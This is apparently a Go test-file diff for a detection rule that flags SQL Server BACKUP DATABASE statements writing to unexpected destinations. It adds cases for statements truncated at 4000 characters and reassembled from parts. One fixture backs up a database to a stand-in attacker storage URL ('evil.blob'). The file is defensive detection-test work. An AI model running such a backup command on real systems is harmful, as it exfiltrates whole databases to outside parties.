@@ -38,6 +38,11 @@ func fails(n int, ipAddr string, principal func(i int) string, step time.Duratio
 	})
 }
 
+// padTo appends a block comment so that s is n characters long.
+func padTo(s string, n int) string {
+	return s + " /*" + strings.Repeat("-", n-len(s)-5) + "*/"
+}
+
 func same(p string) func(int) string { return func(int) string { return p } }
 
 var ruleCases = map[string][]ruleCase{
@@ -52,6 +57,9 @@ var ruleCases = map[string][]ruleCase{
 		{name: "second stripe foreign", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/1.bak', URL = 'https://evil.blob.core.windows.net/c/2.bak'")}, want: []string{"EXF-001/high"}, whyHas: "evil.blob"},
 		{name: "variable destination", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE @db TO DISK = @path")}, want: []string{"EXF-001/high"}, whyHas: "unknown location (variable @path)"},
 		{name: "truncated statement", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/x")}, want: []string{"EXF-001/high"}, whyHas: "unknown location"},
+		{name: "cut at 4000 characters by the service", recs: []audit.Record{rec("BA", "DB", padTo("BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/a.bak' WITH COPY_ONLY", 4000), svc)}, want: []string{"EXF-001/high"}, whyHas: "cut at 4000"},
+		{name: "long statement reassembled from parts", recs: []audit.Record{rec("BA", "DB", padTo("BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/a.bak' WITH COPY_ONLY", 4000), svc, func(r *audit.Record) { r.Parts = []audit.Record{{}, {}} })}},
+		{name: "3999 characters", recs: []audit.Record{rec("BA", "DB", padTo("BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/a.bak' WITH COPY_ONLY", 3999), svc)}},
 		{name: "empty statement", recs: []audit.Record{rec("BA", "DB", "")}, want: []string{"EXF-001/high"}, whyHas: "unknown location"},
 		{name: "allow-listed device", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO NightlyTape")}},
 		{name: "failed backup is EXF-006", recs: []audit.Record{rec("BA", "DB", evilURL, failed)}},
